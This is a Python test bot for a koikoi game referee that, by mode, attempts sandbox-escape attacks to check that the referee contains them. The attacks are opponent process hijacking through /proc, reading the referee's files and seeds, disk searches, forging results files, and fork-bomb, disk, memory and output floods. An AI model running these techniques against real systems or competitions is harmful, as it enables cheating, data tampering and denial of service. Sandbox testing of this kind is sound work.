"""A koikoi/1 bot that tries one way of cheating, or of harming the referee, its opponent or the machine, chosen
by MODE, and says on stderr what it achieved; otherwise it plays the first legal action.

Usage: attack_bot.py MODE [--tag=TAG]. The tag is not read: it marks the command line of the bot and of every
process it forks (a fork keeps the command line), so a test can find them all from outside any sandbox.

Each finding is one line ``VERDICT {json}`` on stderr (the referee keeps a bot's stderr in its log). A test
reads these lines; ``"won": true`` means the attack got through. The slow attacks (disk search, fork bomb,
disk fill, memory) run before the bot says hello, in the generous startup time; the others at the first
request (and at the fourth: parent_fds; in every match: results_rewrite). Every attack is bounded, so that it stops by
itself even where no limit stops it, and touches only what it reaches through its own parent (the referee):

takeover        SIGSTOP the sibling processes (the opponent), read their requests from /proc/PID/fd/0 and
                answer them through /proc/PID/fd/1 (set up at the first request, before answering it)
parent_fds      read every regular file the ancestors hold open (/proc/PID/fd/N): a replay being written
replay_search   look for recent replays, results lines and bot logs on disk, from the referee's cwd to /
bot_peek        read the files beside its own program and in the folder above (other bots, their data)
seed_read       collect seed candidates from the ancestors' command line, environment and stdout (when a
                file), and from its own environment
framing         SIGSTOP the referee for 2.5 s while the opponent's request is pending (up to twice)
setsid_churn    a process that forks, calls setsid and lets its parent exit every millisecond (for 30 s)
results_rewrite rewrite the results.jsonl of the running tournament (found through the referee's cwd/fds)
fork_bomb       fork up to 300 sleeping processes (each exits after 20 s)
disk_fill       write up to 1 GiB into the working directory, then into /tmp, in 64 MiB files; stop at an error
stderr_flood    write 200 MB to stderr while playing
memory_children four children that each allocate and touch 160 MiB, held at the same time for 1.5 s
memory_orphans  the same from four orphans in sessions of their own (their parents exit at once)
"""

import contextlib
import json
import os
import re
import select
import signal
import stat
import sys
import threading
import time

MODE = sys.argv[1]
RECENT_S = 600.0  # a file modified this recently belongs to a running match
STARTED = time.monotonic()


def verdict(**fields: object) -> None:
    """One ``VERDICT`` line on stderr, written at once (the bot may be killed right after)."""
    os.write(2, b"VERDICT " + json.dumps({"attack": MODE, **fields}, sort_keys=True).encode() + b"\n")


def stat_fields(pid: int) -> list[str]:
    """The fields of /proc/PID/stat after the command name (state first); [] if it cannot be read."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            raw = f.read()
    except OSError:
        return []
    return raw[raw.rindex(b")") + 2 :].decode().split()


def ppid_of(pid: int) -> int:
    fields = stat_fields(pid)
    return int(fields[1]) if fields else 0


def cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def ancestors(depth: int = 3) -> list[int]:
    """The parent, grandparent... (at most ``depth``; pid 0 ends the chain)."""
    out, pid = [], os.getppid()
    while pid > 0 and len(out) < depth:
        out.append(pid)
        pid = ppid_of(pid)
    return out


def pids() -> list[int]:
    return [int(e) for e in os.listdir("/proc") if e.isdigit()]


def read_small(path: str, limit: int = 1 << 20) -> bytes | None:
    """Up to ``limit`` bytes of a regular file (never a pipe or device: opening one could block)."""
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return None
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    try:
        return os.read(fd, limit)
    except OSError:
        return None
    finally:
        os.close(fd)


def kind_of(data: bytes) -> str | None:
    """What a file's content reveals: a replay (header, deals), a results line, or nothing we want."""
    if re.search(rb'"type":\s*"header"', data) or re.search(rb'"stock":\s*\[', data):
        return "replay"
    if re.search(rb'"winner":', data) and re.search(rb'"scores":', data):
        return "results"
    return None


def referee_pid() -> int | None:
    """The parent, when it is a referee (never a test runner or a shell: an attack must not stop those)."""
    pid = os.getppid()
    line = cmdline(pid)
    return None if "pytest" in line or not pid else pid


# --- takeover -----------------------------------------------------------------------------------------------


def siblings() -> list[int]:
    me, parent = os.getpid(), os.getppid()
    return [p for p in pids() if p != me and ppid_of(p) == parent]


def take_over() -> tuple[int, int, int] | None:
    """Stop a sibling and open its descriptors, before answering the first request: the bot is frozen
    between its turns, so setup spread over them could outlast the match. The sibling, and the two
    descriptors to play its seat through (:func:`play_for`); None, with a verdict, where nothing was reached."""
    others = siblings()
    visible = len([p for p in pids() if p not in (os.getpid(), os.getppid())])
    for opp in others:
        try:
            os.kill(opp, signal.SIGSTOP)
            # Not blocking while opening: this runs before the bot answers, and a pipe's read end waits for a writer.
            rfd = os.open(f"/proc/{opp}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            os.set_blocking(rfd, True)
            wfd = os.open(f"/proc/{opp}/fd/1", os.O_WRONLY)
        except OSError as exc:
            verdict(won=False, target=opp, error=str(exc), visible=visible)
            continue
        verdict(won=False, target=opp, stopped=True, visible=visible)  # replaced by won=True once it answers
        return opp, rfd, wfd
    verdict(won=False, siblings=others, visible=visible)
    return None


def play_for(opp: int, rfd: int, wfd: int) -> None:
    """Answer the stopped sibling's requests through its own descriptors (in a thread, until bye)."""
    seen = answered = 0
    with os.fdopen(rfd, "rb") as requests:
        for raw in requests:
            msg = json.loads(raw)
            if msg.get("type") == "bye":
                break
            if msg.get("type") != "request":
                continue
            seen += 1
            answer = {"type": "action", "id": msg["id"], "action": msg["legal"][-1]}
            os.write(wfd, json.dumps(answer).encode() + b"\n")
            answered += 1
            if answered == 1:
                verdict(won=True, target=opp, seen=seen, answered=answered)


# --- reading the referee's files ----------------------------------------------------------------------------


def parent_fds() -> None:
    found = []
    for pid in ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            found.append({"pid": pid, "error": exc.strerror})
            continue
        for fd in fds:
            data = read_small(f"/proc/{pid}/fd/{fd}")
            if data is not None and (kind := kind_of(data)) is not None:
                found.append({"pid": pid, "fd": fd, "kind": kind})
    verdict(won=any("kind" in x for x in found), found=found, ancestors=ancestors())


SKIP = {"/proc", "/sys", "/dev", "/run", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/boot", "/snap",
        "/var/lib", "/var/cache", "/etc"}  # fmt: skip
SKIP_NAMES = {".git", ".venv", "node_modules", "site-packages", "__pycache__", ".mypy_cache", ".ruff_cache"}
NAMES = re.compile(r"(\.jsonl|\.log|^tournament\.json)$")  # tournament.json: a tournament folder's seed


def search_disk(budget_s: float = 4.0) -> tuple[list[dict[str, str]], int]:
    """Recent replays, results and bot logs anywhere the bot can read, the referee's folders first."""
    own = os.path.realpath(os.getcwd())
    roots = [f"/proc/{p}/cwd" for p in ancestors()]
    roots += [os.environ.get("HOME", "/root"), "/tmp", "/var/tmp", "/root", "/home", "/work", "/srv", "/mnt", "/"]
    seen_dirs: set[str] = set()
    found: list[dict[str, str]] = []
    visited = 0
    deadline = time.monotonic() + budget_s
    stack = list(reversed(roots))
    while stack and time.monotonic() < deadline and visited < 400_000:
        top = stack.pop()
        try:
            real = os.path.realpath(top)
        except OSError:
            continue
        if real in seen_dirs or real in SKIP or real == own or real.startswith(own + "/"):
            continue
        seen_dirs.add(real)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for e in entries:
            visited += 1
            try:
                if e.is_dir(follow_symlinks=False):
                    if e.name not in SKIP_NAMES:
                        stack.append(e.path)
                elif e.is_file(follow_symlinks=False) and NAMES.search(e.name):
                    if time.time() - e.stat().st_mtime > RECENT_S:
                        continue
                    data = read_small(e.path, 1 << 16)
                    kind = kind_of(data or b"") or ("log" if re.match(r".*seat\d\.log$", e.name) else None)
                    if e.name == "tournament.json" and b'"seed"' in (data or b""):
                        kind = "tournament"
                    if kind is not None:
                        found.append({"path": os.path.realpath(e.path), "kind": kind})
            except OSError:
                continue
    return found, visited


def replay_search() -> None:
    found, visited = search_disk()
    verdict(won=bool(found), found=found[:20], visited=visited)


def bot_peek() -> None:
    """Other files beside this bot's own program: another contestant's bot, its data, the organiser's files."""
    here = os.path.dirname(os.path.abspath(sys.argv[0]))
    others = []
    for folder in (here, os.path.dirname(here)):
        with contextlib.suppress(OSError):
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if path != os.path.abspath(sys.argv[0]) and path != here and read_small(path, 64) is not None:
                    others.append(path)
    verdict(won=bool(others), others=sorted(others)[:20])


SEED = re.compile(rb"seed\D{0,3}?(\d+)", re.IGNORECASE)


def seed_read() -> None:
    """Every number that follows the word seed where the referee keeps it, and every numeric variable."""
    candidates: set[str] = set()
    readable = []
    sources = [f"/proc/{p}/{what}" for p in ancestors() for what in ("cmdline", "environ", "fd/1")]
    for path in sources:
        data = read_small(path) if path.endswith("fd/1") else None
        if not path.endswith("fd/1"):
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                data = None
        if data:
            readable.append(path)
            candidates.update(m.decode() for m in SEED.findall(data.replace(b"\0", b" ")))
            candidates.update(v.decode() for v in re.findall(rb"=(\d{3,})(?:\0|$)", data))
    candidates.update(v for v in os.environ.values() if v.isdigit())
    verdict(candidates=sorted(candidates), readable=readable)


# --- harming the referee or the opponent --------------------------------------------------------------------

framed = 0


def frame() -> None:
    """Right after an answer: if no request follows within 100 ms, the opponent's request is pending (a test
    gives it an opponent that thinks 200 ms)."""
    global framed
    target = referee_pid()
    if framed >= 2 or target is None or select.select([sys.stdin], [], [], 0.1)[0]:
        return
    framed += 1
    try:
        os.kill(target, signal.SIGSTOP)
        time.sleep(2.5)
    except OSError as exc:
        verdict(stopped=False, target=target, error=exc.strerror)
        return
    finally:
        os.kill(target, signal.SIGCONT)
    verdict(stopped=True, target=target, cmdline=cmdline(target)[:200])


def churn() -> None:
    """Fork; the child calls setsid and goes on; the parent exits; every millisecond, for at most 30 s."""
    if os.fork() != 0:
        return
    os.setsid()
    while time.monotonic() - STARTED < 30:
        time.sleep(0.001)
        if os.fork() != 0:
            os._exit(0)
        os.setsid()
    os._exit(0)


def results_rewrite() -> None:
    target = referee_pid()
    places: set[str] = set()
    if target is not None:
        for fd in os.listdir(f"/proc/{target}/fd") if os.access(f"/proc/{target}/fd", os.R_OK) else []:
            path = os.path.realpath(f"/proc/{target}/fd/{fd}")
            if path.endswith("results.jsonl"):
                places.add(path)
        for top, dirs, files in os.walk(f"/proc/{target}/cwd"):
            dirs[:] = [d for d in dirs if d not in SKIP_NAMES] if top.count("/") < 6 else []
            places.update(os.path.realpath(os.path.join(top, f)) for f in files if f == "results.jsonl")
    found, _ = search_disk(1.0)
    seen = sorted({x["path"] for x in found if x["path"].endswith("results.jsonl")} | places)
    rewrote = []
    for path in sorted(places):  # only the files of our own referee: never another run's
        try:
            with open(path, "r+") as f:
                lines = [json.loads(x) for x in f.read().splitlines()]
                f.seek(0)
                f.truncate()
                for line in lines:
                    f.write(json.dumps({**line, "forged": True}) + "\n")
                f.write(json.dumps({"type": "result", "forged": True, "winner": 2, "scores": [0, 12]}) + "\n")
            rewrote.append(path)
        except (OSError, ValueError) as exc:
            verdict(won=False, path=path, error=str(exc))
    verdict(won=bool(rewrote), rewrote=rewrote, seen=seen)


def fork_bomb() -> None:
    forks, error = 0, None
    while forks < 300:
        try:
            pid = os.fork()
        except OSError as exc:
            error = exc.strerror
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        forks += 1
    verdict(forks=forks, error=error)


def fill(folder: str, limit: int = 1 << 30) -> dict[str, object]:
    """Write files of 64 MiB into ``folder`` (so that no limit on one file's size stops it) until ``limit``
    bytes or the first error; then remove them."""
    written, error, chunk, paths = 0, None, b"\xa5" * (4 << 20), []
    try:
        while written < limit:
            paths.append(os.path.join(folder, f"fill-{os.getpid()}-{len(paths)}.bin"))
            fd = os.open(paths[-1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
            try:
                for _ in range(16):
                    written += os.write(fd, chunk)
            finally:
                os.close(fd)
    except OSError as exc:
        error = exc.strerror
    for path in paths:
        with contextlib.suppress(OSError):
            os.unlink(path)
    return {"folder": folder, "written": written, "error": error}


def disk_fill() -> None:
    verdict(fills=[fill(os.getcwd()), fill("/tmp")])


def stderr_flood() -> None:
    chunk = b"e" * 65536
    for _ in range(3000):  # about 200 MB
        os.write(2, chunk)


def memory_children(each: int = 160 << 20, *, orphans: bool = False) -> None:
    """Four children allocate and touch ``each`` bytes, report, and hold it until all four have reported; with
    ``orphans`` each is a grandchild in a session of its own whose parent has exited (out of the bot's tree)."""
    release_r, release_w = os.pipe()
    report_r, report_w = os.pipe()
    for _ in range(4):
        if (pid := os.fork()) == 0:
            if orphans:
                os.setsid()
                if os.fork() != 0:
                    os._exit(0)
            try:
                block = bytearray(each)
                for i in range(0, each, 4096):
                    block[i] = 1
                os.write(report_w, b"1")
            except MemoryError:
                os.write(report_w, b"0")
            os.read(release_r, 1)  # until the parent has heard from all four (or died)
            os._exit(0)
        if orphans:
            os.waitpid(pid, 0)
    got = b""
    while len(got) < 4:
        part = os.read(report_r, 4)
        if not part:
            break
        got += part
    held = got.count(b"1")
    verdict(allocated_mib=held * (each >> 20), children=4, failed=got.count(b"0"))
    time.sleep(1.5)  # holding it: a limit on the whole bot that is checked now and then has stopped it by now
    os.write(release_w, b"xxxx")
    for _ in range(0 if orphans else 4):
        os.wait()
    verdict(held_mib=held * (each >> 20), held_s=1.5)


# --- the game -----------------------------------------------------------------------------------------------


def send(obj: object) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


if MODE == "replay_search":
    replay_search()
if MODE == "bot_peek":
    bot_peek()
if MODE == "disk_fill":
    disk_fill()
if MODE == "memory_children":
    memory_children()
if MODE == "memory_orphans":
    memory_children(orphans=True)
if MODE == "fork_bomb":
    fork_bomb()
if MODE == "stderr_flood":
    threading.Thread(target=stderr_flood, daemon=True).start()
requests = 0
for line in sys.stdin:
    msg = json.loads(line)
    kind = msg["type"]
    if kind == "bye":
        break
    if kind == "hello":
        send({"type": "hello", "name": f"attack-{MODE}"})
        if MODE == "seed_read":
            seed_read()
        continue
    if kind == "new_match":
        requests = 0
    if kind != "request":
        continue
    requests += 1
    if requests == 1:
        if MODE == "takeover" and (reached := take_over()) is not None:
            threading.Thread(target=play_for, args=reached, daemon=True).start()
        elif MODE == "parent_fds":
            parent_fds()
        elif MODE == "setsid_churn":
            churn()
            verdict(churning=True)
    if requests == 1 and MODE == "results_rewrite":
        results_rewrite()  # in every match of a tournament, once results.jsonl has lines
    elif requests == 4 and MODE == "parent_fds":
        parent_fds()  # later in the match, when more of the replay is written
    send({"type": "action", "id": msg["id"], "action": msg["legal"][0]})
    if MODE == "framing":
        frame()
